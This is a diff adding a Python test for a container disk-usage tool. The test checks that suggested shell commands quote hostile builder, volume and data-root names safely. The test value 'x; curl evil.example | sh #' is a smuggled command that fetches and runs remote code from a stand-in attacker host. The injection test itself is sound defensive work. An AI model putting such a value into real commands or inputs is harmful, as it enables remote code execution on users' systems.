@@ -1,5 +1,6 @@
 """The whole disk: its parts add up, each with since when it grows and what to do; what nobody knows is said as that."""
 
+import shlex
 from dataclasses import replace
 from datetime import timedelta
 
@@ -175,3 +176,20 @@ def test_build_cache_says_that_its_own_collector_takes_some_of_it_back() -> None
     holds = replace(inventory(record("r", 3 * GB)))
     whole = whole_disk(Seen(survey=Survey(inventory=holds, usage=USAGE, disk=DISK)))
     assert "BuildKit takes some of it back by itself" in told(whole, BUILD_CACHE)
+
+
+def test_what_an_engine_calls_things_is_one_word_of_the_commands_that_people_are_told() -> None:
+    evil = "x; curl evil.example | sh #"
+    builder = container(
+        f"buildx_buildkit_{evil}0", WEB, "running", volumes=(f"buildx_buildkit_{evil}0_state",)
+    )
+    state = replace(volume(f"buildx_buildkit_{evil}0_state", anonymous=False), size=9 * GB)
+    given = seen(state, builder)
+    holds = given.survey.inventory
+    rooted = replace(holds, engine=replace(holds.engine, data_root=f"/var/lib/{evil}"))
+    whole = whole_disk(replace(given, survey=replace(given.survey, inventory=rooted)))
+    (du,) = [each for each in part(whole, REST).advice.does if "du -xh" in each]
+    assert shlex.split(du.partition(": ")[2])[3] == "--max-depth=2"
+    assert shlex.split(du.partition(": ")[2])[4] == f"/var/lib/{evil}"
+    for each in part(whole, VOLUMES).advice.does:
+        assert "--builder" not in each or shlex.split(each.partition(": ")[2])[-1] == evil
